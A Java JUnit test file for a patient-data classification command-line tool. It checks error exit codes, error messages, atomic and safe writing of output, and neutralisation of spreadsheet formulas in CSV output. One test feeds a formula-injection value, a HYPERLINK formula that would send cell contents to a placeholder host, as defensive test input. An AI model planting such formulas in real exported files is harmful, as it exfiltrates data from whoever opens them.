package org.mcrckg.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Contract §3 on the command line: a data error (or bad usage) exits 2, stderr names file,
 * line/path and field, and nothing is written to {@code --out}. Runs {@link Main#execute} with
 * string writers; the ontology is the checkout's {@code ontology/mcrc.owl}.
 */
class ClassifyErrorsTest {
    static final Path DIR = Path.of("src/test/resources/bad-input");
    static final String ONTOLOGY = "ontology/mcrc.owl";

    @TempDir
    Path tmp;

    record Run(int code, String out, String err) {}

    static Run run(String... args) {
        StringWriter out = new StringWriter(), err = new StringWriter();
        int code = Main.execute(args, new PrintWriter(out, true), new PrintWriter(err, true));
        return new Run(code, out.toString(), err.toString());
    }

    static String fixture(String name) {
        Path p = DIR.resolve(name);
        assertTrue(Files.isRegularFile(p), "fixture missing: " + p);
        return p.toString();
    }

    static List<Path> listing(Path dir) throws IOException {
        try (Stream<Path> s = Files.list(dir)) {
            return s.sorted().toList();
        }
    }

    @Test
    void goodFileIsWrittenToOut() throws IOException {
        // the positive control: the same invocation shape as below does write when the data are good
        Path out = tmp.resolve("answers.json");
        Run r = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--format", "json", "--out", out.toString());
        assertEquals(0, r.code(), r.err());
        assertTrue(Files.isRegularFile(out));
        String json = Files.readString(out);
        assertTrue(json.contains("\"G1\"") && json.contains("\"treatments\""), json);
        assertEquals(List.of(out), listing(tmp), "no temporary file is left behind");
    }

    @Test
    void badFileExitsTwoAndNamesFileLineAndField() {
        String bad = fixture("out-of-range-flr.csv");
        Run r = run("classify", bad, "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains(bad + ":3"), "file and line: " + r.err());
        assertTrue(r.err().contains("flr_percent"), "field: " + r.err());
        assertTrue(r.err().contains("data#out-of-range"), "error id: " + r.err());
        assertTrue(r.err().contains("nothing was written"), r.err());
        assertEquals("", r.out(), "nothing on stdout");
    }

    @Test
    void badJsonFileNamesThePath() {
        String bad = fixture("out-of-range-path.json");
        Run r = run("classify", bad, "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains(bad + ":4 $[1].flr_percent"), "file, line and path: " + r.err());
        assertEquals("", r.out());
    }

    @Test
    void badFileWritesNothingToOut() throws IOException {
        Path out = tmp.resolve("sub/dir/answers.json");
        Run r = run("classify", fixture("out-of-range-flr.csv"), "--ontology", ONTOLOGY, "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertFalse(Files.exists(out), "the out file must not exist");
        assertFalse(Files.exists(tmp.resolve("sub")), "not even its directory is created");
        assertEquals(List.of(), listing(tmp), "no temporary file either");
    }

    @Test
    void badFileLeavesAnExistingOutFileUnchanged() throws IOException {
        Path out = tmp.resolve("answers.json");
        byte[] before = "previous results\n".getBytes(StandardCharsets.UTF_8);
        Files.write(out, before);
        Run r = run("classify", fixture("several-errors.csv"), "--ontology", ONTOLOGY, "--format", "json", "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertArrayEquals(before, Files.readAllBytes(out));
        assertEquals(List.of(out), listing(tmp), "no temporary file left behind");
        // all four errors are on stderr, not just the first
        assertTrue(r.err().contains("data errors (4)"), r.err());
        for (String where : List.of(":2: field age", ":2: field ecog", ":3: field flr_percent", ":3: field sex")) {
            assertTrue(r.err().contains(where), where + " in " + r.err());
        }
    }

    @Test
    void goodPlusBadFileWritesNothing() throws IOException {
        Path out = tmp.resolve("answers.csv");
        String bad = fixture("not-an-integer-ecog.csv");
        Run r = run("classify", fixture("good-patient.csv"), bad, "--ontology", ONTOLOGY, "--format", "csv", "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertFalse(Files.exists(out));
        assertEquals(List.of(), listing(tmp));
        assertTrue(r.err().contains(bad + ":2: field ecog"), r.err());
        assertTrue(r.err().contains("data#not-an-integer"), r.err());
    }

    @Test
    void goodPlusBadFileToStdoutPrintsNoAnswers() {
        Run r = run("classify", fixture("good-patient.csv"), fixture("unknown-word-uppercase.csv"), "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertEquals("", r.out(), "the good file's patients are not classified either");
        assertTrue(r.err().contains("field primary_site"), r.err());
    }

    @Test
    void samePatientInTwoFilesExitsTwo() {
        Path out = tmp.resolve("answers.json");
        Run r = run("classify", fixture("dup-across-a.csv"), fixture("dup-across-b.json"), "--ontology", ONTOLOGY, "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("data#duplicate-patient-id") && r.err().contains("D7"), r.err());
        assertFalse(Files.exists(out));
    }

    @Test
    void missingFileExitsTwo() {
        Path out = tmp.resolve("answers.json");
        String missing = DIR.resolve("no-such-file.csv").toString();
        Run r = run("classify", missing, "--ontology", ONTOLOGY, "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains(missing) && r.err().contains("data#unreadable"), r.err());
        assertFalse(Files.exists(out));
    }

    @Test
    void unsupportedFormatExitsTwo() {
        Run r = run("classify", fixture("unsupported.xlsx"), "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("data#unsupported-format"), r.err());
    }

    @Test
    void unknownOptionExitsTwo() {
        Path out = tmp.resolve("answers.json");
        Run r = run("classify", fixture("good-patient.csv"), "--bogus", "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("--bogus"), r.err());
        assertEquals("", r.out());
        assertFalse(Files.exists(out));
    }

    @Test
    void unknownFormatExitsTwo() {
        Path out = tmp.resolve("answers.xml");
        Run r = run("classify", fixture("good-patient.csv"), "--format", "xml", "--out", out.toString());
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("'xml'"), r.err());
        assertEquals("", r.out());
        assertFalse(Files.exists(out));
    }

    // ------------------------------------------------------------------ --out that would destroy something

    @Test
    void outRefusesTheInputFile() throws IOException {
        Path self = Files.copy(Path.of(fixture("good-patient.csv")), tmp.resolve("self.csv"));
        byte[] before = Files.readAllBytes(self);
        for (String target : List.of(self.toString(), tmp.resolve(".").resolve("self.csv").toString())) {
            Run r = run("classify", self.toString(), "--ontology", ONTOLOGY, "--format", "csv", "--out", target);
            assertEquals(2, r.code(), r.err());
            assertTrue(r.err().contains("[io#out-is-input]"), r.err());
            assertArrayEquals(before, Files.readAllBytes(self), "the input is intact");
        }
        // a hard link is the same file under another name
        Path link = Files.createLink(tmp.resolve("link.csv"), self);
        Run r = run("classify", self.toString(), "--ontology", ONTOLOGY, "--out", link.toString());
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("[io#out-is-input]"), r.err());
        assertArrayEquals(before, Files.readAllBytes(self));
        assertEquals(List.of(link, self), listing(tmp), "no temporary file is left behind");
    }

    @Test
    void outRefusesADirectoryADeviceAndASymlink() throws IOException {
        Path dir = Files.createDirectory(tmp.resolve("answers"));
        Run d = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", dir.toString());
        assertEquals(2, d.code(), d.err());
        assertTrue(d.err().contains("[io#out-not-a-file]"), d.err());
        assertTrue(Files.isDirectory(dir));

        Path device = Path.of("/dev/null");
        if (Files.exists(device)) {
            Run n = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", device.toString());
            assertEquals(2, n.code(), n.err());
            assertTrue(n.err().contains("[io#out-not-a-file]"), n.err());
            assertFalse(Files.isRegularFile(device, java.nio.file.LinkOption.NOFOLLOW_LINKS), "/dev/null is still a device");
        }

        Path target = Files.writeString(tmp.resolve("target.json"), "keep me");
        Path link = Files.createSymbolicLink(tmp.resolve("link.json"), target);
        Run l = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--format", "json", "--out", link.toString());
        assertEquals(2, l.code(), l.err());
        assertTrue(l.err().contains("[io#out-not-a-file]"), l.err());
        assertTrue(Files.isSymbolicLink(link), "the link is still a link");
        assertEquals("keep me", Files.readString(target));
    }

    @Test
    void aWriteFailureIsAnIoErrorNotADataError() throws IOException {
        Path file = Files.writeString(tmp.resolve("plain.txt"), "x");
        Run r = run("classify", fixture("good-patient.csv"), "--ontology", ONTOLOGY, "--out", file.resolve("answers.json").toString());
        assertEquals(1, r.code(), r.err());
        assertTrue(r.err().contains("[io#write-failed]"), r.err());
        assertFalse(r.err().contains("data#"), r.err());
    }

    @Test
    void aFullDiskIsAWriteFailureAndLeavesNothing() throws IOException {
        Path out = tmp.resolve("answers.json");
        var e = org.junit.jupiter.api.Assertions.assertThrows(org.mcrckg.report.OutputException.class,
                () -> org.mcrckg.report.AtomicFile.write(out, List.of(), o -> {
                    o.write("partial".getBytes(StandardCharsets.UTF_8));
                    throw new IOException("No space left on device");
                }));
        assertEquals("io#write-failed", e.errorId());
        assertTrue(e.getMessage().contains("No space left on device"), e.getMessage());
        assertEquals(List.of(), listing(tmp), "no partial or temporary file");
    }

    // ------------------------------------------------------------------ inputs that exhausted the machine or crashed it

    @Test
    void aHugeExponentIsADataError() {
        Run r = run("classify", fixture("huge-exponent.json"), "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("huge-exponent.json:1 $[0].cea_ng_ml: field cea_ng_ml"), r.err());
        assertTrue(r.err().contains("[data#too-long]"), r.err());
    }

    @Test
    void aControlCharacterInAnIdIsADataErrorAndLoadDoesNotTouchTheStore() {
        Run r = run("classify", fixture("control-character-id.csv"), "--ontology", ONTOLOGY);
        assertEquals(2, r.code(), r.err());
        assertTrue(r.err().contains("control-character-id.csv:3: field patient_id"), r.err());
        assertTrue(r.err().contains("[data#bad-character]"), r.err());
        assertFalse(r.err().contains("\u0007"), "no raw control character on the terminal");
        Path store = tmp.resolve("store");
        Run load = run("load", "--store", store.toString(), fixture("control-character-id.csv"), "--ontology", ONTOLOGY);
        assertEquals(2, load.code(), load.err());
        assertTrue(load.err().contains("[data#bad-character]"), load.err());
        assertFalse(Files.exists(store), "the store was not created");
    }

    @Test
    void csvOutputNeutralisesSpreadsheetFormulas() throws IOException {
        Path in = Files.writeString(tmp.resolve("formulas.csv"),
                "patient_id,ecog\n\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\",0\n+1,0\n-2,0\n@SUM(A1),0\nV01,0\n", StandardCharsets.UTF_8);
        Run r = run("classify", in.toString(), "--ontology", ONTOLOGY, "--format", "csv");
        assertEquals(0, r.code(), r.err());
        var rows = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new java.io.StringReader(r.out())).getRecords();
        java.util.Set<String> ids = new java.util.TreeSet<>();
        rows.forEach(row -> ids.add(row.get("patient_id")));
        assertEquals(new java.util.TreeSet<>(List.of("'=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "'@SUM(A1)", "+1", "-2", "V01")), ids,
                "formulas get a quote; a plain number is not a formula");
        // JSON keeps the id as it is
        Run json = run("classify", in.toString(), "--ontology", ONTOLOGY, "--format", "json");
        assertTrue(json.out().contains("\"id\" : \"=HYPERLINK("), json.out());
    }
}
